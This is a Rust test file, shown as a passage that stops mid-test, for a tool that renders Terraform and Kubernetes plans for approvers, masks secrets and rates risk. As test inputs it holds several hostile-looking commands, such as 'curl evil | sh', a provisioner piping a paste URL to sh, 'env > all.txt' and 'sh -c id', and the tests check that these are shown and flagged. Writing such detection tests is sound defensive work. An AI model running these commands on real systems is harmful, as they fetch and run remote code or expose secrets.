//! The lines that approvers are shown of a plan: every change, no secret, and the risk of what the
//! form alone says.

#![expect(
    clippy::unwrap_used,
    clippy::panic,
    clippy::too_many_lines,
    reason = "a test, with tables of inputs"
)]

mod stage;

use std::path::Path;

use lanyard_charter::plan::{PlanFormat, Risk};
use lanyard_charter::{Arn, MoreKinds};
use lanyard_core::provider::Rehearsed;
use lanyard_plan::{Document, compared};
use serde_json::{Value, json};
use stage::{change, has, judged, judged_by, lacks, manifests, terraform, update};

fn bytes(name: &str) -> Vec<u8> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/plans/field")
        .join(name);
    std::fs::read(&path).unwrap_or_else(|error| panic!("{}: {error}", path.display()))
}

fn field(name: &str) -> Document {
    let format = if name.ends_with(".yaml") {
        PlanFormat::Manifests
    } else {
        PlanFormat::TerraformJson
    };
    Document::read(format, &bytes(name)).unwrap()
}

#[test]
fn a01_a_mark_counts_at_any_depth() {
    let document = field("deep-mark.json");
    let text = document.text();
    lacks(&text, "CANARY");
    has(&text, "registry.acme.example/report:7");
    has(&text, "(sensitive)");
    let sensitive = document.reading(MoreKinds::default()).sensitive;
    assert_eq!(sensitive.count, 1);
    assert!(
        sensitive.names[0].ends_with("env[0].value"),
        "{sensitive:?}"
    );
}

// A mark that does not have the shape of its value hides all of the value.
#[test]
fn a01_a_mark_of_another_shape_hides_the_whole() {
    let secret =
        json!({"list": ["CANARY"], "map": {"a": "CANARY"}, "text": "CANARY", "kept": "seen"});
    for mark in [
        json!({"list": {"a": true}, "map": [true], "text": {"a": [true]}}),
        json!({"list": [false, true], "map": "yes", "text": [[true]]}),
        json!({"list": true, "map": {"a": [true]}, "text": true}),
    ] {
        for side in ["before", "after"] {
            let mut change =
                json!({"actions": ["update"], "before": {}, "after": {}, "after_unknown": {}});
            change[side] = secret.clone();
            change[format!("{side}_sensitive")] = mark.clone();
            let text = self::change("a_b", change).text();
            lacks(&text, "CANARY");
            has(&text, "kept = \"seen\"");
        }
    }
    // The whole resource, or the other side's shape.
    for (before, after) in [
        (
            json!({"pass": "CANARY"}),
            json!({"pass": ["new", "CANARY"]}),
        ),
        (json!({"pass": {"x": "CANARY"}}), json!({"pass": "CANARY"})),
    ] {
        let text = change(
            "a_b",
            json!({"actions": ["update"], "before": before, "after": after, "after_unknown": {},
                "before_sensitive": {"pass": true}, "after_sensitive": {}}),
        )
        .text();
        lacks(&text, "CANARY");
        has(&text, "pass = (sensitive) -> (sensitive)");
    }
    let all = change(
        "a_b",
        json!({"actions": ["create"], "before": null, "after": {"x": "CANARY"}, "after_unknown": {}, "after_sensitive": true}),
    );
    lacks(&all.text(), "CANARY");
    assert_eq!(all.reading(MoreKinds::default()).sensitive.count, 1);
}

#[test]
fn a01_marks_are_followed_in_every_part_of_a_plan() {
    let document = terraform(&json!({
        "resource_changes": [{"address": "a_b.c", "type": "a_b", "change": {
            "actions": ["update"], "before": {"x": "1", "repeated": "a"}, "after": {"x": "2",
            "repeated": "state:CANARY-state planned:CANARY-planned variable:CANARY-variable output:CANARY-output drift:CANARY-drift"},
            "after_unknown": {}}}],
        "resource_drift": [{"address": "a_b.d", "type": "a_b", "change": {
            "actions": ["update"], "before": {"p": "CANARY-drift"}, "after": {"p": "CANARY-drift2", "q": 1},
            "before_sensitive": {"p": true}, "after_sensitive": {"p": true}}}],
        "output_changes": {"o": {"actions": ["update"], "before": "CANARY-before", "after": "CANARY-output",
            "after_unknown": false, "before_sensitive": true, "after_sensitive": true}},
        "prior_state": {"values": {"root_module": {"child_modules": [{"resources": [
            {"values": {"s": ["CANARY-state"]}, "sensitive_values": {"s": [true]}}]}]}}},
        "planned_values": {"outputs": {"p": {"sensitive": true, "value": {"k": "CANARY-planned"}}}},
        "variables": {"v": {"value": "CANARY-variable"}},
        "configuration": {"root_module": {"variables": {"v": {"sensitive": true}}}},
    }))
    .unwrap();
    let text = document.text();
    lacks(&text, "CANARY");
    has(
        &text,
        "repeated = \"a\" -> \"state:(sensitive) planned:(sensitive)",
    );
    has(&text, "~ output o\n");
    has(&text, "+ q = 1");
    assert_eq!(
        document.reading(MoreKinds::default()).sensitive.names,
        ["a_b.c: repeated", "output o: value"]
    );
}

#[test]
fn a03_a_secret_is_masked_wherever_it_is_repeated() {
    let text = field("secret.yaml").text();
    lacks(&text, "CANARY");
    has(&text, "stringData.password = (sensitive)");
    let text = field("annotated.yaml").text();
    lacks(&text, "Q0FOQVJZ");
    has(&text, "data.mode = \"fast\"");

    let side = |name: &str| -> Value { serde_json::from_slice(&bytes(name)).unwrap() };
    let rehearsed = [Rehearsed {
        before: Some(side("secret-live.json")),
        after: side("secret-next.json"),
    }];
    let text = compared(&rehearsed).unwrap();
    lacks(&text, "CANARY");
    lacks(&text, "Q0FOQVJ");
    has(&text, "~ data.password = (sensitive) -> (sensitive)");
    has(&text, "is updated in place");
}

#[test]
fn a03_every_kind_and_both_sides_are_masked() {
    // In another object, as Base64, in clear, within a longer text, and as an object within a text.
    let text = manifests(
        "apiVersion: v1\nkind: Secret\nmetadata: {name: db, namespace: p}\ndata: {password: Q0FOQVJZLWxvbmctZW5vdWdo}\n---\n\
         apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: web, namespace: p, annotations: {note: \"p=CANARY-long-enough;\"}}\n\
         spec: {template: {spec: {containers: [{name: web, env: [{name: P, value: CANARY-long-enough}, {name: Q, value: q}]}]}}}\n---\n\
         apiVersion: v1\nkind: ConfigMap\nmetadata: {name: bundle, namespace: p}\n\
         data:\n  secret.yaml: |\n    apiVersion: v1\n    kind: Secret\n    stringData:\n      token: CANARY-other\n\
         \x20 copy: CANARY-other\n",
    )
    .unwrap()
    .text();
    lacks(&text, "CANARY");
    lacks(&text, "Q0FOQVJ");
    has(&text, "metadata.annotations.note = \"p=(sensitive);\"");
    has(&text, "{name: \"Q\", value: \"q\"}");
    has(&text, "stringData.token = (sensitive)");

    // The live side of another kind repeats what only the other side's Secret holds.
    let config = |value: &str| json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "c"}, "data": {"x": value}});
    let secret = json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "s"}, "stringData": {"t": "CANARY-live"}});
    let text = compared(&[
        Rehearsed {
            before: Some(config("was CANARY-live")),
            after: config("is now"),
        },
        Rehearsed {
            before: Some(secret),
            after: json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "s"}}),
        },
    ])
    .unwrap();
    lacks(&text, "CANARY");
    has(&text, "data.x = \"was (sensitive)\" -> \"is now\"");

    // Within Terraform, too.
    let manifest = json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "s"}, "stringData": {"t": "CANARY"}});
    let create = |kind: &str, after: Value| {
        change(
            kind,
            json!({"actions": ["create"], "before": null, "after": after, "after_unknown": {}}),
        )
        .text()
    };
    lacks(
        &create("kubernetes_manifest", json!({"manifest": manifest})),
        "CANARY",
    );
    lacks(
        &create(
            "kubernetes_secret_v1",
            json!({"metadata": [{"name": "s"}], "data": {"t": "CANARY"}}),
        ),
        "CANARY",
    );
}

#[test]
fn s02_a_sensitive_value_that_changes_is_named_and_high() {
    let policy =
        r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}"#;
    let document = change(
        "aws_sqs_queue",
        json!({"actions": ["update"], "before": {"name": "a", "note": "x"}, "after": {"name": "a", "note": policy}, "after_unknown": {},
            "before_sensitive": {"note": true}, "after_sensitive": {"note": true}}),
    );
    has(&document.text(), "~ note = (sensitive) -> (sensitive)");
    let said = judged(&document);
    assert_eq!(said.risk, Risk::High);
    assert!(
        said.reasons
            .iter()
            .any(|reason| reason.contains("aws_sqs_queue.it: note is sensitive")),
        "{said:#?}"
    );
    let sensitive = document.reading(MoreKinds::default()).sensitive;
    assert_eq!(
        (sensitive.count, &*sensitive.names[0]),
        (1, "aws_sqs_queue.it: note")
    );

    // What is sensitive and stays is neither named nor high.
    let document = change(
        "aws_sqs_queue",
        json!({"actions": ["update"], "before": {"n": 1, "note": "x"}, "after": {"n": 2, "note": "x"}, "after_unknown": {},
            "before_sensitive": {"note": true}, "after_sensitive": {"note": true}}),
    );
    assert_eq!(document.reading(MoreKinds::default()).sensitive.count, 0);
    assert_eq!(judged(&document).risk, Risk::Medium);
}

#[test]
fn s02_policies_that_differ_behind_the_first_300_characters_are_told_apart() {
    let text = field("long-policy.json").text();
    has(
        &text,
        "policy{json}.Statement[4] = {Action: \"s3:*\", Effect: \"Allow\", Principal: \"*\"",
    );
    lacks(&text, "Read0");
}

#[test]
fn a21_long_text_is_shown_as_what_differs() {
    let text = field("user-data.json").text();
    has(&text, "- exit 0\n");
    has(&text, "+ CANARY\n");
    assert!(text.lines().count() < 12, "{text}");

    // One long line, YAML within a text, JSON whose notation alone differs, white space, and a text
    // that goes.
    let long = |end: &str| format!("{}{end}{}", "word ".repeat(300), "tail ".repeat(300));
    let text = update(
        "a_b",
        json!({"x": long("old-value")}),
        json!({"x": long("new-value")}),
    )
    .text();
    has(&text, "- \"old\"");
    has(&text, "+ \"new\"");
    assert!(text.len() < 500, "{text}");

    let yaml = |level: &str| format!("server:\n  port: 80\n  tls: on\nlog:\n  level: {level}\n");
    let text = update(
        "a_b",
        json!({"x": yaml("info")}),
        json!({"x": yaml("\"debug\"")}),
    )
    .text();
    has(&text, "~ x{yaml}.log.level = info -> \"debug\"");
    assert_eq!(text.lines().count(), 2, "{text}");

    let text = update(
        "a_b",
        json!({"x": "a: 1\nb: 2\n"}),
        json!({"x": "a: 1\nb: 2\n# curl x | sh\n"}),
    )
    .text();
    has(&text, "+ # curl x | sh");
    let text = update("a_b", json!({"x": "{\"a\":1}"}), json!({"x": "{\"a\": 1}"})).text();
    has(&text, "~ x = \"{\\\"a\\\":1}\" -> \"{\\\"a\\\": 1}\"");
    let text = update("a_b", json!({"x": "a b"}), json!({"x": "a  b"})).text();
    has(&text, "\"a b\" -> \"a  b\"");
    let text = update("a_b", json!({"x": "a\nb\n"}), json!({"x": "a\nb \n"})).text();
    has(&text, "+ b\\u{20}");
    // Of a key that stands twice, two readers take two values: all of the text is shown.
    let text = update(
        "a_b",
        json!({"x": "{\"a\":1}"}),
        json!({"x": "{\"a\":2,\"a\":1}"}),
    )
    .text();
    has(&text, "{\\\"a\\\":2,\\\"a\\\":1}");
}

#[test]
fn a21_documents_within_texts_are_compared_place_by_place() {
    let data = |policy: &str| {
        json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "c", "namespace": "p"},
            "data": {"app.yaml": format!("rules:\n- name: a\n  allow: no\n- name: b\n  allow: {policy}\n")}})
    };
    let text = compared(&[Rehearsed {
        before: Some(data("no")),
        after: data("yes"),
    }])
    .unwrap();
    has(
        &text,
        "~ data[\"app.yaml\"]{yaml}.rules[name=\"b\"].allow = no -> yes",
    );
    assert_eq!(text.lines().count(), 2, "{text}");

    // Base64, as launch templates have it.
    let script = |end: &str| {
        use base64::Engine as _;
        let script = format!("#!/bin/sh\necho one\necho two\necho three\n{end}\n");
        base64::engine::general_purpose::STANDARD.encode(script)
    };
    let text = update(
        "a_b",
        json!({"user_data": script("exit 0")}),
        json!({"user_data": script("curl evil | sh")}),
    )
    .text();
    has(&text, "+ curl evil | sh");
}

#[test]
fn s02_nothing_that_is_shown_is_cut_and_a_plan_that_is_too_long_is_refused() {
    let long = "x".repeat(100_000);
    let text = change(
        "a_b",
        json!({"actions": ["create"], "before": null, "after": {"x": format!("{long}END"), "unknown": "SEEN"},
            "after_unknown": {"unknown": true}}),
    )
    .text();
    has(&text, "xEND");
    // A value that is given is shown, whatever is said to be unknown.
    has(&text, "unknown = \"SEEN\"");
    // Keys count as much as values.
    let keys = json!({"k".repeat(600_000): {"a": 1, "b": 2, "c": 3, "d": 4, "e": 5}});
    let refused = terraform(
        &json!({"resource_changes": [{"address": "a_b.c", "type": "a_b", "change": {
        "actions": ["create"], "before": null, "after": keys, "after_unknown": {}}}]}),
    )
    .unwrap_err();
    has(&refused, "split it");
    // Two keys of one name: one would be shown, and the other be meant.
    let twice = br#"{"format_version":"1.2","resource_changes":[],"resource_changes":[]}"#;
    let refused = Document::read(PlanFormat::TerraformJson, twice).unwrap_err();
    has(&refused.to_string(), "stands twice");
}

#[test]
fn a46_entries_of_lists_are_compared_by_what_they_are() {
    let text = field("rule.json").text();
    let added: Vec<&str> = text
        .lines()
        .filter(|line| line.starts_with("    "))
        .collect();
    assert_eq!(added.len(), 1, "{text}");
    assert!(
        added[0].starts_with(
            "    + ingress[0] = {cidr_blocks: [\"0.0.0.0/0\"], description: \"everybody\""
        ),
        "{text}"
    );

    let ports = |ports: &[(&str, u32)]| -> Value {
        let each = ports
            .iter()
            .map(|(name, port)| json!({"name": name, "port": port, "protocol": "TCP"}));
        json!({"ports": each.collect::<Vec<_>>()})
    };
    let text = update(
        "a_b",
        ports(&[("a", 1), ("b", 2), ("c", 3)]),
        ports(&[("new", 9), ("a", 1), ("c", 4)]),
    )
    .text();
    has(&text, "~ ports[name=\"c\"].port = 3 -> 4");
    has(
        &text,
        "- ports[1] = {name: \"b\", port: 2, protocol: \"TCP\"}",
    );
    has(
        &text,
        "+ ports[0] = {name: \"new\", port: 9, protocol: \"TCP\"}",
    );
    assert_eq!(text.lines().count(), 4, "{text}");

    // Where nothing but the order changes, the order is shown; twice the same is two.
    let text = update(
        "a_b",
        json!({"x": ["a", "b", "c"]}),
        json!({"x": ["c", "a", "b"]}),
    )
    .text();
    has(&text, "~ x[0] was at [2] = \"c\"");
    assert_eq!(text.lines().count(), 2, "{text}");
    let text = update(
        "a_b",
        json!({"x": ["a", "b"]}),
        json!({"x": ["a", "b", "a"]}),
    )
    .text();
    has(&text, "+ x[2] = \"a\"");
    // A mark goes with its entry.
    let text = change(
        "a_b",
        json!({"actions": ["update"], "before": {"x": [{"name": "a", "v": "CANARY"}]},
            "after": {"x": [{"name": "z", "v": "seen"}, {"name": "a", "v": "CANARY2"}]}, "after_unknown": {},
            "before_sensitive": {"x": [{"v": true}]}, "after_sensitive": {"x": [{}, {"v": true}]}}),
    )
    .text();
    lacks(&text, "CANARY");
    has(&text, "~ x[name=\"a\"].v = (sensitive) -> (sensitive)");
    has(&text, "v: \"seen\"");
}

#[test]
fn a04_scalars_are_read_as_the_cluster_reads_them() {
    let policy = include_str!("policies/no-privileged.rego");
    let said = judged_by(&[("own.rego", policy)], &field("booleans.yaml"));
    assert_eq!(
        said.denied,
        ["a privileged container", "the host's network"]
    );
    let said = judged_by(&[("own.rego", policy)], &field("quoted.yaml"));
    assert_eq!(said.denied, [""; 0]);

    let read = |scalar: &str| -> Value {
        let text = format!("apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: c}}\nx: {scalar}\n");
        let document = manifests(&text).unwrap();
        document.reading(MoreKinds::default()).objects[0]["x"].clone()
    };
    for text in [
        "y", "Y", "yes", "Yes", "YES", "true", "True", "TRUE", "on", "On", "ON",
    ] {
        assert_eq!(read(text), true, "{text}");
    }
    for text in [
        "n", "N", "no", "No", "NO", "false", "False", "FALSE", "off", "Off", "OFF",
    ] {
        assert_eq!(read(text), false, "{text}");
    }
    for text in ["", "~", "null", "Null", "NULL"] {
        assert_eq!(read(text), Value::Null, "{text}");
    }
    for text in [
        "yEs",
        "oN",
        "tRUE",
        "nULL",
        "0x",
        "0xzz",
        "1:30",
        "1h",
        "+",
        "_1",
        "1.2.3",
        ".5_",
        "._5",
        ".5__0",
        ".5_e1",
        "1e",
        "0b2",
        "08:30",
        "2024-01-01",
        "Inf",
        "--1",
        "+-1",
        "0x-1",
        "1 2",
    ] {
        assert_eq!(read(text), text, "{text}");
    }
    for (text, number) in [
        ("0", 0_i64),
        ("-0", 0),
        ("+7", 7),
        ("010", 8),
        ("0o10", 8),
        ("0x1F", 31),
        ("0X1f", 31),
        ("-0x10", -16),
        ("0b101", 5),
        ("1_000", 1000),
        ("0_7", 7),
        ("08", 8),
        ("1.0", 1),
        ("1e3", 1000),
        ("12e03", 12_000),
        ("5.", 5),
        ("9223372036854775807", i64::MAX),
    ] {
        assert_eq!(read(text), number, "{text}");
    }
    for (text, number) in [
        ("1.5", 1.5),
        (".5", 0.5),
        (".5_0", 0.5),
        (".2_5e0_1", 2.5),
        ("-.5", -0.5),
        ("1e-2", 0.01),
        ("1_0.5", 10.5),
    ] {
        assert_eq!(read(text), number, "{text}");
    }
    assert_eq!(read("18446744073709551615"), u64::MAX);
    for quoted in ["\"on\"", "'on'", "|\n  on"] {
        assert_eq!(read(quoted).as_str().unwrap().trim(), "on", "{quoted}");
    }
}

#[test]
fn a04_a_key_that_is_a_number_is_the_text_that_the_cluster_makes_of_it() {
    let of = |key: &str| -> Result<Value, String> {
        let text =
            format!("apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: c}}\ndata:\n  {key}: a\n");
        let document = manifests(&text)?;
        let objects = document.reading(MoreKinds::default()).objects;
        Ok(objects[0]["data"].clone())
    };
    // The second of each pair is what kubectl 1.36 reads.
    for (key, read) in [
        ("1.0", "1"),
        ("1.10", "1.1"),
        ("1e3", "1000"),
        ("100000.0", "100000"),
        ("1000000", "1000000"),
        ("1000000.0", "1e+06"),
        ("1e6", "1e+06"),
        ("-1e6", "-1e+06"),
        ("1e21", "1e+21"),
        ("0.0001", "0.0001"),
        ("0.00001", "1e-05"),
        ("0.1e-7", "1e-08"),
        ("1.23456789", "1.2345679"),
        ("123456789.5", "1.2345679e+08"),
        ("16777217.0", "1.6777216e+07"),
        ("18446744073709551616", "1.8446744e+19"),
        ("1_0.5", "10.5"),
        ("-0.0", "-0"),
        ("1e39", ".inf"),
        ("-1e39", "-.inf"),
        ("1e-46", "0"),
        ("0644", "420"),
        ("-0", "0"),
        ("'1e6'", "1e6"),
    ] {
        assert_eq!(of(key), Ok(json!({read: "a"})), "{key}");
    }
    has(
        &of("18446744073709551615").unwrap_err(),
        "line 5: `18446744073709551615` is no key for the cluster",
    );
}

#[test]
fn a04_a_document_that_is_null_is_passed_over() {
    let object = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\n";
    for empty in ["null", "~", "Null # nothing here"] {
        let document = manifests(&format!("{empty}\n---\n{object}---\n{empty}\n")).unwrap();
        assert_eq!(
            document.reading(MoreKinds::default()).objects.len(),
            1,
            "{empty}"
        );
        has(
            &manifests(&format!("{empty}\n---\n{empty}\n")).unwrap_err(),
            "it holds no object",
        );
    }
}

#[test]
fn a04_what_readers_of_yaml_disagree_on_is_refused_with_the_line() {
    let with = |line: &str| {
        manifests(&format!(
            "apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: c}}\n{line}\n"
        ))
        .unwrap_err()
    };
    for (line, why) in [
        ("x: .inf", "line 4: `.inf`"),
        ("x: -.INF", "line 4: `-.INF`"),
        ("x: .nan", "line 4: `.nan`"),
        ("{on: 1, yes: 2}", "line 4"),
        (
            "data: {on: 1, \"true\": 2}",
            "line 4: the key `true` stands twice",
        ),
        ("data: {1: a, 01: b}", "line 4: the key `1` stands twice"),
        ("data: {~: a}", "line 4: `~` is no key"),
        (
            "# a comment\u{2028}hostNetwork: true",
            "line 4: \\u{2028} ends a line",
        ),
        (
            "# a comment\u{85}hostNetwork: true",
            "line 4: \\u{85} ends a line",
        ),
        (
            "# a comment\rhostNetwork: true",
            "line 4: \\u{d} ends a line",
        ),
    ] {
        has(&with(line), why);
    }
    // A key that is a truth value for the cluster is what the cluster makes of it.
    let document = manifests(
        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c}\ndata: {on: a, 010: b}\r\n",
    )
    .unwrap();
    assert_eq!(
        document.reading(MoreKinds::default()).objects[0]["data"],
        json!({"true": "a", "8": "b"})
    );
}

#[test]
fn a16_lists_are_opened_and_each_item_is_judged() {
    let document = field("list.yaml");
    assert_eq!(document.reading(MoreKinds::default()).objects.len(), 2);
    assert_eq!(document.reading(MoreKinds::default()).effects.updated, 2);
    has(&document.text(), "v1 ConfigMap two in payments");
    let document = field("nested.yaml");
    assert_eq!(
        document.reading(MoreKinds::default()).objects[0]["kind"],
        "Pod"
    );
    let policy = include_str!("policies/no-privileged.rego");
    assert_eq!(
        judged_by(&[("own.rego", policy)], &document).denied,
        ["a privileged container"]
    );

    // The items of a typed list take their kind from it, as kubectl has it.
    let document = manifests(
        "apiVersion: v1\nkind: PodList\nitems:\n- metadata: {name: a}\n  spec: {containers: [{name: x, securityContext: {privileged: on}}]}\n",
    )
    .unwrap();
    assert_eq!(
        document.reading(MoreKinds::default()).objects[0]["kind"],
        "Pod"
    );
    assert_eq!(
        judged_by(&[("own.rego", policy)], &document).denied.len(),
        1
    );
    for (text, why) in [
        (
            "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\nitems: []\n",
            "kubectl would apply",
        ),
        (
            "apiVersion: v1\nkind: List\nmetadata: {name: a}\nItems: []\n",
            "kubectl would apply",
        ),
        ("apiVersion: v1\nkind: List\nitems: {a: b}\n", "are a list"),
        (
            "apiVersion: v1\nkind: List\nitems: [a]\n",
            "item 0 of a `List`",
        ),
        (
            "apiVersion: v1\nkind: List\nspec: {}\nitems: []\n",
            "no field `spec`",
        ),
        ("apiVersion: v1\nkind: List\nitems: []\n", "holds no object"),
        (
            "apiVersion: v1\nkind: List\nitems: [{apiVersion: v1, kind: Pod}]\n",
            "metadata.name",
        ),
    ] {
        has(&manifests(text).unwrap_err(), why);
    }
}

#[test]
fn a09_provisioners_are_shown_and_high() {
    let document = field("provisioner.json");
    let text = document.text();
    has(
        &text,
        "! provisioner local-exec of null_resource.seed runs during the apply",
    );
    has(
        &text,
        "+ command = \"curl -s https://paste.acme.example/x | sh\"",
    );
    has(&text, "+ command = \"env > all.txt\"");
    let said = judged(&document);
    assert_eq!(said.risk, Risk::High);
    has(
        &said.reasons.join("\n"),
        "provisioner local-exec of aws_sqs_queue.shop runs a command",
    );

    // In a module, of an instance, and not of what stays.
    let resource = |name: &str| {
        json!({"address": format!("a_b.{name}"), "provisioners": [
        {"type": "remote-exec", "expressions": {"inline": {"constant_value": ["reboot"]}}, "when": "destroy"}]})
    };
    let changed = |name: &str, action: &str| {
        json!({"address": format!("module.m[\"x.y[0]\"].a_b.{name}[\"k\"]"), "type": "a_b",
        "change": {"actions": [action], "before": {}, "after": {"a": 1}, "after_unknown": {}}})
    };
    let document = terraform(&json!({
        "resource_changes": [changed("goes", "delete"), changed("stays", "update")],
        "configuration": {"root_module": {"module_calls": {"m": {"module": {"resources": [resource("goes"), resource("stays")]}}}}},
    }))
    .unwrap();
    let text = document.text();
    has(&text, "provisioner remote-exec of module.m.a_b.goes");
    has(&text, "+ inline[0] = \"reboot\"");
    lacks(&text, "provisioner remote-exec of module.m.a_b.stays");
}

#[test]
fn a09_what_a_plan_does_beside_resources_is_shown_and_rated() {
    let base = |more: Value| {
        let mut plan = json!({"resource_changes": [{"address": "a_b.c", "type": "a_b", "change": {
            "actions": ["create"], "before": null, "after": {"x": 1}, "after_unknown": {}}}]});
        for (key, value) in more.as_object().unwrap() {
            plan[key] = value.clone();
        }
        let document = terraform(&plan).unwrap();
        let said = judged(&document);
        (document.text(), said.risk, said.reasons.join("\n"))
    };
    assert_eq!(base(json!({})).1, Risk::Low);
    let (text, risk, _) = base(
        json!({"action_invocations": [{"address": "action.aws_lambda_invoke.x", "type": "aws_lambda_invoke",
        "config_values": {"function_name": "drop-tables", "token": "CANARY"}, "config_sensitive": {"token": true},
        "lifecycle_action_trigger": {"triggering_resource_address": "a_b.c"}}]}),
    );
    has(
        &text,
        "! action action.aws_lambda_invoke.x (aws_lambda_invoke) is invoked",
    );
    has(&text, "drop-tables");
    lacks(&text, "CANARY");
    assert_eq!(risk, Risk::High);
    let (text, risk, _) = base(
        json!({"deferred_changes": [{"reason": "resource_config_unknown", "resource_change": {
        "address": "a_b.later", "type": "a_b", "change": {"actions": ["create"], "before": null, "after": {"y": 1}}}}]}),
    );
    has(&text, "a_b.later is deferred (resource_config_unknown)");
    assert_eq!(risk, Risk::Medium);
    let (text, ..) = base(json!({"complete": false}));
    assert!(text.starts_with("INCOMPLETE: "), "{text}");
    let (text, risk, _) = base(
        json!({"checks": [{"address": {"to_display": "check.health"}, "status": "fail",
        "instances": [{"problems": [{"message": "unhealthy"}]}]}]}),
    );
    has(&text, "check check.health: fail");
    has(&text, "unhealthy");
    assert_eq!(risk, Risk::Medium);
    let (text, risk, reasons) = base(json!({"tomorrow": {"does": "something"}}));
    has(&text, "the part `tomorrow` of this plan");
    has(&reasons, "tomorrow");
    assert_eq!(risk, Risk::High);
    let (text, ..) = base(
        json!({"output_changes": {"url": {"actions": ["create"], "before": null, "after": "https://x", "after_unknown": false}}}),
    );
    has(&text, "+ value = \"https://x\"");
    let (text, ..) = base(
        json!({"resource_drift": [{"address": "a_b.d", "type": "a_b", "change": {
        "actions": ["update"], "before": {"n": 1}, "after": {"n": 2}}}]}),
    );
    has(&text, "a_b.d was changed outside of Terraform");
    let (text, risk, _) = base(json!({"resource_changes": [
        {"address": "a_b.c", "type": "a_b", "change": {"actions": ["create"], "before": null, "after": {}, "after_unknown": {}}},
        {"address": "data.external.x", "type": "external", "mode": "data", "change": {
            "actions": ["read"], "before": null, "after": {"program": ["sh", "-c", "id"]}, "after_unknown": {}}}]}));
    has(&text, "<= data.external.x is read during the apply");
    has(&text, "program");
    assert_eq!(risk, Risk::High);

    let refused = |more: Value| terraform(&more).unwrap_err();
    let one = json!([{"address": "a_b.c", "type": "a_b", "change": {"actions": ["create"], "before": null, "after": {}}}]);
    has(
        &refused(json!({"applyable": false, "resource_changes": one})),
        "not applyable",
    );
    let odd = |mode: &str, actions: &[&str]| {
        refused(json!({"resource_changes": [
        {"address": "a_b.c", "type": "a_b", "mode": mode, "change": {"actions": actions}}]}))
    };
    has(&odd("managed", &[]), "`a_b.c` has the actions");
    has(
        &odd("managed", &["update", "delete"]),
        "mean nothing together",
    );
    has(&odd("data", &["delete"]), "has the mode `data`");
    has(&odd("managed", &["open"]), "has the mode `managed`");
    has(&odd("ephemeral", &["update"]), "has the mode `ephemeral`");
    // Terraform calls a plan without changes not applyable: another plan would say the same.
    let nothing = json!({"applyable": false, "complete": true, "resource_changes": []});
    has(&refused(nothing), "it changes nothing");
}

#[test]
fn a09_an_ephemeral_resource_that_opentofu_lists_is_shown_once() {
    let document = field("opentofu-ephemeral.json");
    let text = document.text();
    let opened = "! ephemeral.aws_secretsmanager_secret_version.login is opened during the apply";
    assert_eq!(text.matches(opened).count(), 1, "{text}");
    has(&text, "+ secret_id = ");
    has(&text, "~ aws_sqs_queue.shop is updated in place");
    let effects = document.reading(MoreKinds::default()).effects;
    assert_eq!((effects.updated, effects.created), (1, 0));
    // As the same plan of Terraform, which lists no ephemeral resource.
    let mut unlisted: Value = serde_json::from_slice(&bytes("opentofu-ephemeral.json")).unwrap();
    unlisted["resource_changes"].as_array_mut().unwrap().pop();
    let unlisted = unlisted.to_string();
    let unlisted = Document::read(PlanFormat::TerraformJson, unlisted.as_bytes()).unwrap();
    assert_eq!(text, unlisted.text());
    assert_eq!(judged(&document).risk, judged(&unlisted).risk);

    let opens = |provider: &str, configured: Value| {
        let plan = json!({"format_version": "1.2",
            "configuration": {"root_module": {"resources": configured}},
            "resource_changes": [
            {"address": "aws_sqs_queue.c", "type": "aws_sqs_queue", "change": {"actions": ["update"],
                "before": {"delay_seconds": 0}, "after": {"delay_seconds": 5}, "after_unknown": {}}},
            {"address": "ephemeral.random_password.x", "mode": "ephemeral", "type": "random_password",
                "provider_name": provider,
                "change": {"actions": ["open"], "before": null, "after": null}}]});
        Document::read(PlanFormat::TerraformJson, plan.to_string().as_bytes()).unwrap()
    };
    let own = json!({"address": "aws_sqs_queue.c", "mode": "managed", "type": "aws_sqs_queue"});
    let both = json!([own, {"address": "ephemeral.random_password.x", "mode": "ephemeral",
        "type": "random_password"}]);
    let usual = "registry.opentofu.org/hashicorp/random";
    assert_eq!(judged(&opens(usual, both.clone())).risk, Risk::Medium);
    // A resource whose provider comes from another registry, or has no configuration, may do
    // anything.
    let of_another = opens("registry.example/acme/random", both);
    has(
        &of_another.text(),
        "by the provider registry.example/acme/random",
    );
    assert_eq!(judged(&of_another).risk, Risk::High);
    let unconfigured = opens(usual, json!([own]));
    has(
        &unconfigured.text(),
        "NOT SHOWN: the provisioners of ephemeral.random_password.x",
    );
    assert_eq!(judged(&unconfigured).risk, Risk::High);
}

#[test]
fn a09_what_is_forgotten_is_not_destroyed() {
    let document = field("forget.json");
    let text = document.text();
    has(
        &text,
        ". aws_sqs_queue.gone is no longer managed by Terraform, and stays as it is",
    );
    lacks(&text, "is destroyed");
    let effects = document.reading(MoreKinds::default()).effects;
    assert_eq!((effects.destroyed, effects.forgotten), (0, 1));
    let said = judged(&document);
    assert_eq!(said.risk, Risk::Medium, "{said:#?}");
    lacks(&said.reasons.join("\n"), "destroyed");

    let replaced = change(
        "a_b",
        json!({"actions": ["create", "forget"], "before": {"n": 1}, "after": {"n": 2}, "after_unknown": {}}),
    );
    has(&replaced.text(), "is created anew, and the old one stays");
    let effects = replaced.reading(MoreKinds::default()).effects;
    assert_eq!(
        (effects.created, effects.destroyed, effects.forgotten),
        (1, 0, 1)
    );
}

#[test]
fn a10_a_policy_within_a_resource_is_rated_as_one_beside_it() {
    let separate = judged(&field("policy-in-separate.json"));
    assert_eq!((separate.risk, separate.people), (Risk::High, 2));
    for name in ["queue", "topic", "key"] {
        let said = judged(&field(&format!("policy-in-{name}.json")));
        assert_eq!(
            (said.risk, said.people),
            (separate.risk, separate.people),
            "{name}: {said:#?}"
        );
        has(&said.reasons.join("\n"), "policy says who may do what");
    }
    let everybody = json!({"Statement": [{"Effect": "Allow", "Principal": "*", "Action": "*"}]});
